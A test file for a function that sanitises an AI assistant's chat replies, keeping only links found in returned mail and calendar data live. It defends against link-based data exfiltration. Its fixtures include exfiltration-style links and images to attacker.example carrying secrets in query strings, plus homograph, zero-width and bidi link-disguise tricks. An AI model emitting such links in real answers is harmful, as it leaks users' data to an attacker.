import { describe, expect, it } from 'vitest';
import { type AllowedLinks, collectLinks, emptyAllowedLinks } from './links.ts';
import { replyHtml } from './reply-html.ts';

const MAIL = 'https://mail.google.com/mail/u/alex@example.com/#all/18c2f';
const MEET = 'https://meet.google.com/abc-defg-hij';

function allowed(): AllowedLinks {
  const links = emptyAllowedLinks();
  collectLinks(
    {
      messages: [
        { from: { name: 'Anna', email: 'Anna@Example.com' }, link: MAIL, snippet: 'see you' },
      ],
      events: [{ videoLink: MEET, location: 'Room 4' }],
    },
    links,
  );
  return links;
}

describe('replyHtml', () => {
  it.each([
    // Formatting kept, everything else escaped.
    ['Your **next meeting** is at 10:00.', 'Your <b>next meeting</b> is at 10:00.'],
    ['a < b & c > d "q" \'s\'', 'a &lt; b &amp; c &gt; d &quot;q&quot; &#39;s&#39;'],
    ['<b>bold</b> <script>x</script>', '&lt;b&gt;bold&lt;/b&gt; &lt;script&gt;x&lt;/script&gt;'],
    ['- one\n* two\n+ three', '• one\n• two\n• three'],
    ['## Today', '<b>Today</b>'],
    ['An unpaired ** stays', 'An unpaired ** stays'],
    ['Use `x < y`', 'Use <code>x &lt; y</code>'],
    ['```\nline <1>\n```', '<pre>line &lt;1&gt;</pre>'],
    ['e.g. 10.30, v1.2, 3.5h, i.e. fine', 'e.g. 10.30, v1.2, 3.5h, i.e. fine'],
    // Links the data returned stay live.
    [`Open ${MAIL}.`, `Open <a href="${MAIL}">${MAIL}</a>.`],
    [`[the mail](${MAIL})`, `<a href="${MAIL}">the mail</a>`],
    [`(join: ${MEET})`, `(join: <a href="${MEET}">${MEET}</a>)`],
    [`<a href="${MEET}">join</a>`, `<a href="${MEET}">join</a>`],
    [`**[join](${MEET})**`, `<b><a href="${MEET}">join</a></b>`],
    // A label that looks like another link cannot disguise a live one.
    [`[https://bank.example](${MEET})`, `<a href="${MEET}">${MEET}</a>`],
    [`[bank.example/login](${MEET})`, `<a href="${MEET}">${MEET}</a>`],
    // Every other link or link-like token is shown as code.
    [
      'Click [here](https://attacker.example/c?d=secret)',
      'Click here (<code>https://attacker.example/c?d=secret</code>)',
    ],
    ['See https://attacker.example/c?d=alex', 'See <code>https://attacker.example/c?d=alex</code>'],
    [`${MEET}/other`, `<code>${MEET}/other</code>`],
    [`${MEET}?x=1`, `<code>${MEET}?x=1</code>`],
    ['http://meet.google.com/abc-defg-hij', '<code>http://meet.google.com/abc-defg-hij</code>'],
    [
      '<a href="https://attacker.example">login</a>',
      'login (<code>https://attacker.example</code>)',
    ],
    ['[more](evil.example)', 'more (<code>evil.example</code>)'],
    ['Go to evil.example/x now', 'Go to <code>evil.example/x</code> now'],
    ['www.evil.example', '<code>www.evil.example</code>'],
    ['hxxps://evil.example/y', '<code>hxxps://evil.example/y</code>'],
    ['hxxps[:]//evil.example/y', 'hxxps[:]//<code>evil.example/y</code>'],
    ['ftp://files.example/a', '<code>ftp://files.example/a</code>'],
    // Cut at the apostrophe, the rest (`…%40example.com`) would be left for Telegram to link.
    [
      "x https://a.test/c?d=Maya's%20game%20sam%40example.com y",
      'x <code>https://a.test/c?d=Maya&#39;s%20game%20sam%40example.com</code> y',
    ],
    ['пример.рф/путь', '<code>пример.рф/путь</code>'],
    ['xn--80ak6aa92e.com', '<code>xn--80ak6aa92e.com</code>'],
    ['https://xn--pple-43d.com/login', '<code>https://xn--pple-43d.com/login</code>'],
    ['evil。example', '<code>evil。example</code>'],
    ['evil\u200B.example', '<code>evil.example</code>'],
    ['\u202Eelpmaxe.live', '<code>elpmaxe.live</code>'],
    ['evil.example:8080/x', '<code>evil.example:8080/x</code>'],
    ['**evil.example**', '<b><code>evil.example</code></b>'],
    // Addresses: those in the data stay text, others are code; commands are code.
    ['Write to anna@example.com', 'Write to anna@example.com'],
    ['Write to thief@evil.example', 'Write to <code>thief@evil.example</code>'],
    ['Send /disconnect now', 'Send <code>/disconnect</code> now'],
    ['and/or /v1/tools', 'and/or /v1/tools'],
    // Images never become links, even to an address the data returned.
    [
      '![chart](https://attacker.example/p.png?d=secret)',
      'image: chart <code>https://attacker.example/p.png?d=secret</code>',
    ],
    [`![](${MEET})`, `image <code>${MEET}</code>`],
    [
      '<img src="https://attacker.example/i.png">',
      'image <code>https://attacker.example/i.png</code>',
    ],
  ])('%j', (text, html) => {
    expect(replyHtml(text, allowed())).toBe(html);
  });

  it('shortens a long address shown as code', () => {
    const long = `https://attacker.example/c?d=${'x'.repeat(300)}`;
    expect(replyHtml(long, allowed())).toBe(`<code>${long.slice(0, 99)}…</code>`);
  });

  it('keeps nothing live without data', () => {
    expect(replyHtml(`[the mail](${MAIL})`, emptyAllowedLinks())).toBe(
      `the mail (<code>${MAIL}</code>)`,
    );
  });

  it('drops reasoning the model wrote into its answer', () => {
    expect(
      replyHtml('<think>visit evil.example</think>\nYou have **2** meetings.', allowed()),
    ).toBe('You have <b>2</b> meetings.');
    expect(replyHtml('<think>still thinking about evil.example', allowed())).toBe('');
  });

  it('answers empty text for an empty answer', () => {
    expect(replyHtml(' \n\n ', allowed())).toBe('');
  });
});
